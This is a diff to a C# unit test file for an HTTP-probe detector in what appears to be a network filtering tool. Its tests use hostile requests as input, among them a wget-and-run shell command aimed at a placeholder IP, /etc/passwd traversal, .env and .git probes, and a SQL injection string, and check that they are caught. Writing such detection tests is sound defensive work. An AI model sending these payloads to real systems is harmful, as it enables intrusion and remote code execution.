@@ -1,3 +1,4 @@
+using Blackwall.Inspection;
 using Blackwall.Pipeline;
 using Xunit;
 
@@ -21,6 +22,7 @@ public sealed class HttpProbeTests
         Assert.Equal("http-probe", drop.Reason);
         Assert.Equal(EvidenceClass.Application, drop.Evidence[0].Class);
         Assert.Equal("sent 3 probing requests among 3 distinct targets in 1.0 s", drop.Evidence[0].Detail);
+        Assert.Equal(["dpi-rule"], traffic.Recorded.Select(evidence => evidence.Kind).Where(kind => kind is not "phase").Distinct());
     }
 
     [Theory]
@@ -31,9 +33,74 @@ public sealed class HttpProbeTests
     {
         var traffic = new Traffic();
         traffic.Request(Prober, $"GET {first} HTTP/1.1\r\n\r\n");
-        Assert.Empty(traffic.Decisions);
         traffic.Request(Prober, $"GET {second} HTTP/1.1\r\n\r\n");
         Assert.Equal([Verdict.Drop], traffic.Verdicts);
+    }
+
+    [Fact]
+    public void One_request_that_several_strong_rules_agree_on_is_enough()
+    {
+        var traffic = new Traffic();
+        traffic.Request(Prober, "GET /shell?cd+/tmp;wget+http://192.0.2.1/x;sh+x HTTP/1.1\r\nUser-Agent: Hello, World\r\n\r\n");
+        Assert.Equal(["http-probe"], traffic.Decisions.Select(decision => decision.Reason));
+    }
+
+    [Fact]
+    public void What_decides_is_what_the_operator_wrote_into_the_rules()
+    {
+        (IReadOnlyList<RequestRule> rules, _) = RequestRuleFile.Parse("own.a target prefix 0.8 /canary/a\nown.b target prefix 0.8 /canary/b", "test");
+        var own = new Traffic(inspection: new InspectionOptions { Rules = rules });
+        foreach (string target in new[] { "/.env", "/.git/config", "/etc/passwd", "/canary/a" })
+        {
+            own.Request(Prober, $"GET {target} HTTP/1.1\r\n\r\n");
+        }
+
+        Assert.Empty(own.Decisions);
+        own.Request(Prober, "GET /canary/b HTTP/1.1\r\n\r\n");
+        Assert.Equal(["http-probe"], own.Decisions.Select(decision => decision.Reason));
+        var off = new Traffic(inspection: new InspectionOptions { Weight = 0 });
+        off.Request(Prober, "GET /../../etc/passwd HTTP/1.1\r\n\r\n");
+        off.Request(Prober, "GET /?id=1+union+select+1 HTTP/1.1\r\n\r\n");
+        Assert.Empty(off.Decisions);
+    }
+
+    [Fact]
+    public void Looking_for_what_a_server_has_is_seen_by_what_it_has_not()
+    {
+        var traffic = new Traffic();
+        for (int i = 0; i < 400 && traffic.Decisions.Count == 0; i++)
+        {
+            traffic.Wait(0.02).Request(Prober, $"GET /word{i} HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n");
+            traffic.Answer(Prober, 404);
+        }
+
+        DecisionRequest drop = Assert.Single(traffic.Decisions);
+        Assert.Equal(("http-probe", Verdict.Drop), (drop.Reason, drop.Verdict));
+        Assert.Contains("in vain", drop.Evidence[0].Detail, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_crawler_with_old_links_and_a_page_with_broken_pictures_look_for_nothing()
+    {
+        var traffic = new Traffic();
+        for (int i = 0; i < 2000; i++)
+        {
+            // The site has moved: all links are dead, and the crawler is polite.
+            traffic.Wait(1).Request("203.0.113.30", $"GET /old/{i} HTTP/1.1\r\nUser-Agent: Googlebot/2.1\r\n\r\n");
+            traffic.Answer("203.0.113.30", 404);
+        }
+
+        for (int i = 0; i < 3000; i++)
+        {
+            // An office behind one address; nine of ten pictures are gone.
+            traffic.Wait(0.01).Request("203.0.113.31", $"GET /page{i / 10}/{i} HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n");
+            if (i % 10 != 0)
+            {
+                traffic.Answer("203.0.113.31", 404);
+            }
+        }
+
+        Assert.Empty(traffic.Decisions);
     }
 
     [Fact]
@@ -82,6 +149,6 @@ public sealed class HttpProbeTests
         }
 
         Assert.Empty(traffic.Decisions);
-        Assert.Empty(traffic.Recorded);
+        Assert.DoesNotContain(traffic.Recorded, evidence => evidence.Kind is not "dpi-rule" || evidence.Weight > 0.1);
     }
 }
